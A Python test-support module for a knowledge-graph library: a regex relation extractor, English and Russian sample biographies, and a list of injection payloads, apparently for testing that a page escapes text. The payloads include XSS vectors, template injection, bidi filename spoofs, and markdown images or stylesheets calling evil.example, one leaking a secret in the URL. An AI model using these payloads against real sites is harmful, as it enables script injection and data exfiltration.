"""A real library for the page's tests; its extractor is a few patterns: quick, and foreseeable."""

import re
from collections.abc import Sequence
from pathlib import Path

from indexes.records import Extraction, Mention, MentionRelation
from indexes.text import sentences
from kgrag import KnowledgeBase, Settings
from tests.fakes import NoLinker

_NAME = r"[A-ZА-ЯЁ][\w'’.-]*(?: (?:of |the |de )?[A-ZА-ЯЁ][\w'’.-]*)*"
_PATTERNS = (
    (rf"(?P<s>{_NAME}) was born in (?P<o>{_NAME})", "P19", "person", "city"),
    (rf"(?P<s>{_NAME}) married (?P<o>{_NAME})", "P26", "person", "person"),
    (rf"(?P<s>{_NAME}) studied at (?P<o>{_NAME})", "P69", "person", "organization"),
    (rf"(?P<s>{_NAME}) worked for (?P<o>{_NAME})", "P108", "person", "organization"),
    (r"«(?P<s>[^»]+)» married «(?P<o>[^»]+)»", "P26", "person", "person"),
    (rf"(?P<s>{_NAME}) родил(?:ся|ась) в(?:о)? (?P<o>{_NAME})", "P19", "person", "city"),
)

HANDLIST = """Handlist of the Academy

Leonhard Euler was born in Basel. Leonhard Euler studied at University of Basel.
Leonhard Euler married Katharina Gsell. Leonhard Euler worked for Academy of Sciences.

Daniel Bernoulli was born in Groningen. Daniel Bernoulli worked for Academy of Sciences.
"""

RUSSIAN = """Заметки

Екатерина Дашкова родилась в Петербурге. Она возглавляла Академию наук.
"""


class PatternExtractor:
    """Finds what a handful of patterns say."""

    name = "patterns"
    fingerprint = "patterns-1"

    def extract(self, texts: Sequence[str]) -> list[Extraction]:
        return [_extract(text) for text in texts]


def _extract(text: str) -> Extraction:
    mentions: list[Mention] = []
    relations: list[MentionRelation] = []
    for start, end in sentences(text):
        for pattern, relation, subject, object_ in _PATTERNS:
            for match in re.finditer(pattern, text[start:end]):
                pair = []
                for group, kind in (("s", subject), ("o", object_)):
                    first, last = (start + offset for offset in match.span(group))
                    last -= text[first:last].endswith(".")
                    mention = Mention(first, last, text[first:last], kind, 0.9)
                    if mention not in mentions:
                        mentions.append(mention)
                    pair.append(mentions.index(mention))
                relations.append(MentionRelation(pair[0], relation, pair[1], start, end, 0.9))
    return Extraction(tuple(mentions), tuple(relations))


PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/a.png'>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "'\" onmouseover=alert(1) x='",
    '"><button data-remove=all>click me</button>',
    "[click](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "![leak](http://evil.example/b.png?q=secret)",
    "![leak][ref]\n\n[ref]: http://evil.example/c.png",
    "<link rel=stylesheet href=http://evil.example/d.css>",
    "<style>@import 'http://evil.example/e.css'</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "${alert(1)}",
    "`${alert(1)}`",
    "{{constructor.constructor('alert(1)')()}}",
    "{{{value}}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "invoice\u202efdp.exe",
    "\u2066\u202eadmin\u2069",
    "]]><!--<script>alert(1)</script>-->",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "\ud800lone surrogate",
)
"""What a document, a file name, a question or a model may say to break out of being text."""


def open_library(folder: Path, settings: Settings | None = None) -> KnowledgeBase:
    # The catalogue of entities has nothing to do with the page.
    return KnowledgeBase.open(folder, settings, extractor=PatternExtractor, linker=NoLinker)
